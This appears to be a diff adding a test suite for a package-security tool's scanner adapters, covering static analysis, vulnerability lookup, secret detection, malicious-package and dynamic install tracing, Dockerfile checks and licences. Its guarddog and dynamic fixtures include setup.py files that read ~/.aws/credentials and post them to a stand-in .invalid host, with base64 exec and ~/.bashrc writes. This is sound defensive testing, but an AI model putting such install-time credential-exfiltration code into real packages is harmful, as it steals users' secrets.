@@ -1,0 +1,223 @@
+/**
+ * The scanner adapters on tiny real trees, with the real tools, inside the
+ * network-less sandbox: each one on a tree that triggers it and on a clean
+ * tree. Malicious fixtures point only at loopback or `.invalid` names; the
+ * AWS-key-shaped secret is generated at run time.
+ */
+import assert from 'node:assert/strict';
+import { randomInt } from 'node:crypto';
+import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { checkov } from '../src/scanners/checkov';
+import { dynamic, parseTrace } from '../src/scanners/dynamic';
+import { gitleaks } from '../src/scanners/gitleaks';
+import { guarddog } from '../src/scanners/guarddog';
+import { licence, licenceFromText } from '../src/scanners/licence';
+import { osv, osvSeverity } from '../src/scanners/osv';
+import { bandit, IScannerSpec, knownScanners } from '../src/scanners/registry';
+import { runScanner } from '../src/scanners/run';
+import type { IScannerRun } from '../src/types';
+import { tempDir, useVenvScanners } from './helpers';
+
+useVenvScanners();
+
+const SHARED_OSV = path.resolve(__dirname, '..', '..', '..', '..', '..', '..', 'shared', 'data', 'osv', 'PyPI', 'all.zip');
+
+async function tree(files: Record<string, string>): Promise<string> {
+  const dir = path.join(await tempDir('rg-scan-'), 'src');
+  for (const [name, content] of Object.entries(files)) {
+    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
+    await writeFile(path.join(dir, name), content);
+  }
+  await mkdir(dir, { recursive: true });
+  return dir;
+}
+
+async function scan(spec: IScannerSpec, files: Record<string, string>): Promise<IScannerRun> {
+  const target = await tree(files);
+  const outDir = await tempDir('rg-scan-out-');
+  const run = await runScanner(spec, { target, outDir, timeoutMs: 120_000 });
+  assert.equal(run.status, 'ok', run.message);
+  for (const f of run.findings) {
+    assert.ok(f.category, 'category set');
+    assert.ok(f.phase, 'phase set');
+  }
+  return run;
+}
+
+const CLEAN_PY = {
+  'setup.py': 'from setuptools import setup\n\nsetup(name="tidy", version="1.0", py_modules=["tidy"])\n',
+  'tidy.py': '"""Tidy helpers."""\n\n\ndef strip_all(values):\n    return [v.strip() for v in values]\n'
+};
+
+describe('scanner adapters (real tools, no network)', () => {
+  it('registers every adapter, each with a category', () => {
+    const known = knownScanners();
+    for (const name of ['semgrep', 'bandit', 'osv', 'gitleaks', 'guarddog', 'dynamic', 'checkov', 'licence']) {
+      assert.ok(known.get(name)?.category, name);
+    }
+  });
+
+  it('bandit findings carry category sast, a phase and the source line as snippet', async () => {
+    const run = await scan(bandit(), {
+      'calc.py': 'import os\nos.system("ls")\n\n\ndef calc(x):\n    return eval(x)\n'
+    });
+    const evalFinding = run.findings.find(f => f.ruleId === 'B307');
+    assert.equal(evalFinding?.category, 'sast');
+    assert.equal(evalFinding?.phase, 'call');
+    assert.equal(evalFinding?.snippet, 'return eval(x)');
+    assert.equal(run.findings.find(f => f.ruleId === 'B605')?.phase, 'import');
+  });
+
+  describe('osv (offline against the shared OSV data)', () => {
+    let db: string;
+    const saved = process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY;
+    before(async () => {
+      db = await tempDir('rg-osv-db-');
+      // The older layout (osv-scanner/<Ecosystem>/all.zip): the adapter links it into 2.5.0's.
+      await mkdir(path.join(db, 'osv-scanner', 'PyPI'), { recursive: true });
+      await symlink(SHARED_OSV, path.join(db, 'osv-scanner', 'PyPI', 'all.zip'));
+      process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY = db;
+    });
+    after(() => {
+      if (saved === undefined) delete process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY;
+      else process.env.OSV_SCANNER_LOCAL_DB_CACHE_DIRECTORY = saved;
+    });
+
+    it('finds the CVEs of requests==2.19.0, severity mapped', async () => {
+      const run = await scan(osv(), { 'requirements.txt': 'click==8.1.7\nrequests==2.19.0\n' });
+      const f = run.findings.find(x => /CVE-2018-18074/.test(x.message));
+      assert.ok(f, JSON.stringify(run.findings.map(x => x.message)));
+      assert.equal(f.category, 'vulnerability');
+      assert.equal(f.path, 'requirements.txt');
+      assert.equal(f.line, 2);
+      assert.equal(f.severity, 'medium'); // this advisory has no CVSS vector: medium
+      assert.equal(osvSeverity('9.8'), 'critical');
+      assert.equal(osvSeverity('7.5'), 'high');
+      assert.equal(osvSeverity('5.3'), 'medium');
+      assert.equal(osvSeverity('2.0'), 'low');
+      assert.equal(osvSeverity(''), 'medium');
+    });
+
+    it('reports nothing for a current pin', async () => {
+      const run = await scan(osv(), { 'requirements.txt': 'requests==2.32.4\n' });
+      assert.deepEqual(run.findings, []);
+    });
+  });
+
+  it('gitleaks finds a generated AWS key, and neither the SARIF nor the snippet holds it', async () => {
+    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
+    const key = `AKIA${Array.from({ length: 16 }, () => alphabet[randomInt(alphabet.length)]).join('')}`;
+    const run = await scan(gitleaks(), { 'app/settings.py': `AWS_ACCESS_KEY_ID = "${key}"\n` });
+    const f = run.findings.find(x => x.ruleId === 'aws-access-token');
+    assert.ok(f, JSON.stringify(run.findings));
+    assert.equal(f.category, 'secret');
+    assert.equal(f.severity, 'high');
+    assert.equal(f.path, 'app/settings.py');
+    assert.ok(!(f.snippet ?? '').includes(key));
+    assert.ok(!(await readFile(run.sarifFile!, 'utf8')).includes(key));
+    assert.ok(!JSON.stringify(run).includes(key));
+    const clean = await scan(gitleaks(), CLEAN_PY);
+    assert.deepEqual(clean.findings, []);
+  });
+
+  it('guarddog flags obfuscated exec and exfiltration in setup.py (install phase), not a clean package', async () => {
+    const run = await scan(guarddog(), {
+      'setup.py': [
+        'import base64, os, urllib.request',
+        'from setuptools import setup',
+        'exec(base64.b64decode("cHJpbnQoMSk="))',
+        'data = open(os.path.expanduser("~/.aws/credentials")).read()',
+        'urllib.request.urlopen("http://exfil.invalid/x", data=data.encode())',
+        'setup(name="evil", version="1.0")',
+        ''
+      ].join('\n')
+    });
+    const threats = run.findings.filter(f => f.ruleId.startsWith('threat-') && f.severity === 'high');
+    assert.ok(threats.some(f => /base64/.test(f.ruleId)), JSON.stringify(run.findings.map(f => f.ruleId)));
+    assert.ok(threats.every(f => f.category === 'malicious' && f.phase === 'install' && f.path === 'setup.py'));
+    const clean = await scan(guarddog(), CLEAN_PY);
+    assert.deepEqual(clean.findings.filter(f => f.severity !== 'low'), []);
+  });
+
+  it('dynamic catches connect, shell, credential read and ~/.bashrc write at install; a clean package gives nothing', async () => {
+    const run = await scan(dynamic(), {
+      'setup.py': [
+        'import os, socket, subprocess',
+        'from setuptools import setup',
+        'try:',
+        '    socket.create_connection(("127.0.0.1", 9), timeout=1)',
+        'except OSError:',
+        '    pass',
+        'subprocess.call(["sh", "-c", "true"])',
+        'open(os.path.expanduser("~/.aws/credentials")).read()',
+        'with open(os.path.expanduser("~/.bashrc"), "a") as rc:',
+        '    rc.write("# hello\\n")',
+        'setup(name="evil", version="1.0", py_modules=[])',
+        ''
+      ].join('\n')
+    });
+    const rules = new Set(run.findings.map(f => f.ruleId));
+    for (const rule of ['dynamic/network', 'dynamic/shell', 'dynamic/credential-read', 'dynamic/persistence']) {
+      assert.ok(rules.has(rule), `${rule} in ${JSON.stringify(run.findings.map(f => [f.ruleId, f.snippet]))}`);
+    }
+    assert.ok(run.findings.every(f => f.category === 'dynamic' && f.phase === 'install' && f.path === 'setup.py'));
+    assert.match(run.findings.find(f => f.ruleId === 'dynamic/network')!.snippet ?? '', /127\.0\.0\.1:9/);
+    const clean = await scan(dynamic(), CLEAN_PY);
+    assert.deepEqual(clean.findings, []);
+  });
+
+  it('reads npm lifecycle scripts and downloaders from a trace', () => {
+    const trace = [
+      '100 execve("/usr/bin/bwrap", ["bwrap"], 0x0 /* 3 vars */) = 0',
+      '101 execve("/usr/bin/node", ["node", "/usr/bin/npm", "install"], 0x0 /* 3 vars */) = 0',
+      '101 openat(AT_FDCWD, "/tmp/home/.npmrc", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
+      '101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD) = 102',
+      '102 execve("/bin/sh", ["sh", "-c", "node install.js"], 0x0 /* 3 vars */) = 0',
+      '103 execve("/usr/bin/curl", ["curl", "http://x.invalid/p"], 0x0 /* 3 vars */) = 0',
+      '103 connect(5, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ECONNREFUSED (Connection refused)',
+      '104 openat(AT_FDCWD, "/tmp/home/.npmrc", O_RDONLY) = 3'
+    ].join('\n');
+    const events = parseTrace(trace, /(^|\/)node$/, ['node install.js']);
+    assert.deepEqual(
+      events.map(e => e.rule),
+      ['dynamic/lifecycle-script', 'dynamic/downloader', 'dynamic/network', 'dynamic/credential-read']
+    );
+  });
+
+  it('checkov flags a Dockerfile running as root that ADDs a URL; not a clean one', async () => {
+    const run = await scan(checkov(), {
+      Dockerfile: 'FROM python:3.12-slim\nADD http://example.invalid/tool.tar.gz /opt/\nRUN pip install flask\n'
+    });
+    const add = run.findings.find(f => f.ruleId === 'CKV_DOCKER_4');
+    assert.equal(add?.severity, 'high');
+    assert.equal(add?.path, 'Dockerfile');
+    assert.equal(add?.line, 2);
+    assert.equal(add?.category, 'config');
+    assert.ok(run.findings.some(f => f.ruleId === 'CKV_DOCKER_3'), 'no USER: runs as root');
+    const clean = await scan(checkov(), {
+      Dockerfile:
+        'FROM python:3.12-slim@sha256:0000000000000000000000000000000000000000000000000000000000000000\n' +
+        'COPY app.py /app/app.py\nUSER 10001\nHEALTHCHECK CMD ["python", "-c", "print(1)"]\nCMD ["python", "/app/app.py"]\n'
+    });
+    assert.deepEqual(clean.findings.map(f => f.ruleId), []);
+  });
+
+  it('licence: MIT and Apache-2.0 from text, declared metadata, and none', async () => {
+    const mit =
+      'MIT License\n\nCopyright (c) 2024 Someone\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n' +
+      'of this software ... The above copyright notice and this permission notice shall be included in all\ncopies or substantial portions of the Software.\n';
+    const apache = '                                 Apache License\n                           Version 2.0, January 2004\n                        http://www.apache.org/licenses/\n';
+    assert.equal(licenceFromText(mit), 'MIT');
+    assert.equal(licenceFromText(apache), 'Apache-2.0');
+    const a = await scan(licence(), { LICENSE: mit, ...CLEAN_PY });
+    assert.deepEqual(a.findings.map(f => [f.ruleId, f.severity, f.category]), [['licence/MIT', 'info', 'licence']]);
+    const b = await scan(licence(), { 'LICENSE.txt': apache });
+    assert.deepEqual(b.findings.map(f => f.ruleId), ['licence/Apache-2.0']);
+    const c = await scan(licence(), { 'package.json': '{"name": "x", "version": "1.0.0", "license": "Apache 2.0"}\n' });
+    assert.deepEqual(c.findings.map(f => [f.ruleId, f.path]), [['licence/Apache-2.0', 'package.json']]);
+    const none = await scan(licence(), CLEAN_PY);
+    assert.deepEqual(none.findings.map(f => [f.ruleId, f.severity]), [['licence/none', 'low']]);
+  });
+});
